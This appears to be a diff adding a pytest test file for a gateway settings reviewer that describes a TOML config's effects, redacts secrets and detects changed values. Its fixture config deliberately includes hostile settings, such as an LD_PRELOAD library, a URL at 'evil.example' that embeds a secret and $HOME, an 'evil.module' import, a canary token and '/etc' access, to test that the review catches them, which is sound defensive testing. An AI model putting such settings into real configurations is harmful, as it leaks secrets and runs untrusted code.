@@ -1,0 +1,174 @@
+"""What a file would do, in words, and that every value of it counts that does anything."""
+
+from __future__ import annotations
+
+import copy
+import os
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from gatewright.settings import SettingsError
+from gatewright.settings.documents import Document, parse
+from gatewright.settings.review import changes, digests, effects, entries
+
+TOKEN = "ghp_Canary0123456789AbCdEfGhIjKlMnOpQrSt"
+TEXT = f"""
+[gateway]
+name = "g"
+host = "0.0.0.0"
+anonymous = "allow"
+[storage]
+path = "/home/me/state"
+[limits]
+depth = 3
+[builtin.directory_list]
+roots = ["/", "/etc"]
+[[servers]]
+id = "a"
+command = "npx"
+args = ["-y", "thing", "--api-key={TOKEN}"]
+cwd = "sub"
+env = {{ LD_PRELOAD = "./x.so", TOKEN = "hunter2", HTTPS_PROXY = "http://p.example" }}
+[[servers]]
+id = "b"
+url = "https://evil.example/${{secret:mine}}?h=${{HOME:-x}}"
+headers = {{ Authorization = "Bearer {TOKEN}" }}
+[[servers]]
+id = "c"
+python = "evil.module"
+[[servers]]
+id = "d"
+openapi = "api.json"
+base_url = "https://calls.example"
+[servers.tools.rm]
+risk_level = "safe"
+[[grants]]
+agent = "*"
+server = "a"
+[[audit.sinks]]
+name = "s"
+type = "http"
+url = "https://record.example/${{file:where.txt}}"
+[approvals]
+webhook = "https://hook.example"
+"""
+DOCUMENT = parse(TEXT, Path("/nowhere/mgp.toml"))
+HARMLESS = {("limits", "depth"), ("gateway", "name")}
+
+
+def test_what_it_runs_imports_sends_and_uses_is_said() -> None:
+    said = "\n".join(effects(DOCUMENT))
+    for words in (
+        "server a runs `npx -y thing ",
+        "in sub",
+        "sets LD_PRELOAD=./x.so, which chooses what a program loads",
+        "sets HTTPS_PROXY=http://p.example, which says where connections go",
+        "server b sends to https://evil.example/${secret:mine}?h=${HOME:-x}",
+        "server c imports the Python module evil.module",
+        "server d reads the API api.json",
+        "server d sends to https://calls.example",
+        "sets storage.path = /home/me/state",
+        "sets gateway.anonymous = allow",
+        "sets builtin.directory_list.roots = ['/', '/etc']",
+        "sets grants.0.agent = *",
+        "sets audit.sinks.s.url = https://record.example/${file:where.txt}",
+        "sets approvals.webhook = https://hook.example/***",
+        "server b sends the header Authorization: ***",
+        "uses the secrets mine",
+        "uses the variables of your environment HOME",
+        "reads the files where.txt",
+    ):
+        assert words in said
+    assert TOKEN not in said
+    assert "hunter2" not in said
+
+
+def paths(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
+    inner = value.items() if isinstance(value, dict) else enumerate(value)
+    for key, one in inner:
+        yield (*path, key)
+        if isinstance(one, dict | list):
+            yield from paths(one, (*path, key))
+
+
+def put(data: Any, path: tuple[Any, ...], change: str) -> Document:
+    data = copy.deepcopy(data)
+    inner = data
+    for key in path[:-1]:
+        inner = inner[key]
+    if change == "removed":
+        del inner[path[-1]]
+    else:
+        inner[path[-1]] = "another"
+    return Document(DOCUMENT.path, data, {})
+
+
+@pytest.mark.parametrize("change", ["removed", "other"])
+def test_every_value_that_does_anything_counts(change: str) -> None:
+    """The generator: whatever is changed or taken out anywhere is a change, except what is harmless by name."""
+    accepted = digests(entries(DOCUMENT), "salt")
+    seen = 0
+    for path in paths(DOCUMENT.data):
+        found = changes(entries(put(DOCUMENT.data, path, change)), "salt", accepted)
+        assert bool(found) == (path not in HARMLESS and path != ("limits",)), path
+        seen += 1
+    assert seen > 50
+    assert changes(entries(DOCUMENT), "salt", accepted) == []
+
+
+def test_a_new_table_that_nobody_knows_counts() -> None:
+    accepted = digests(entries(DOCUMENT), "salt")
+    more = Document(DOCUMENT.path, {**DOCUMENT.data, "plugins": {"load": "x"}}, {})
+    assert changes(entries(more), "salt", accepted) == ["new: plugins.load = 'x'"]
+
+
+def test_comments_order_and_layout_do_not_count() -> None:
+    one = parse('[[servers]]\nid = "a"\ncommand = "x" # why\n', Path("mgp.toml"))
+    other = parse('servers = [ { command = "x", id = "a" } ]', Path("mgp.toml"))
+    assert changes(entries(other), "s", digests(entries(one), "s")) == []
+
+
+def test_a_server_put_first_is_the_only_one_that_is_new() -> None:
+    accepted = digests(entries(DOCUMENT), "salt")
+    servers = [{"id": "new", "command": "rm"}, *DOCUMENT.data["servers"]]
+    found = changes(
+        entries(Document(DOCUMENT.path, {**DOCUMENT.data, "servers": servers}, {})),
+        "salt",
+        accepted,
+    )
+    assert sorted(found) == ["new: servers.new.command = 'rm'", "new: servers.new.id = 'new'"]
+
+
+@pytest.mark.parametrize("name", ["api.json", "where.txt"])
+def test_a_document_that_the_file_names_counts_with_its_content(name: str, tmp_path: Path) -> None:
+    document = parse(TEXT, tmp_path / "mgp.toml")
+    accepted = digests(entries(document), "salt")
+    for content in ("one", "two"):
+        (tmp_path / name).write_text(content)
+        assert changes(entries(document), "salt", accepted) == [
+            f"changed: file {name} = other content"
+        ]
+        accepted = digests(entries(document), "salt")
+
+
+def test_a_pipe_or_device_in_the_place_of_a_document_holds_nobody_up(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "api.json")
+    (tmp_path / "where.txt").symlink_to("/dev/zero")
+    assert entries(parse(TEXT, tmp_path / "mgp.toml"))
+
+
+def test_more_files_than_can_be_looked_at_are_refused() -> None:
+    names = ", ".join(f'"${{file:{number}}}"' for number in range(300))
+    document = parse(f'[[servers]]\nid = "a"\nargs = [{names}]', Path("/nowhere/mgp.toml"))
+    with pytest.raises(SettingsError, match="names 300 files"):
+        entries(document)
+
+
+@pytest.mark.parametrize("text", ["", "servers = 1", "servers = [1, [2]]", "a = nan", "x = {}"])
+def test_no_shape_of_a_file_breaks_the_review(text: str) -> None:
+    document = parse(text, Path("/nowhere/mgp.toml"))
+    assert changes(entries(document), "s", digests(entries(document), "s")) == []
+    assert isinstance(effects(document), list)
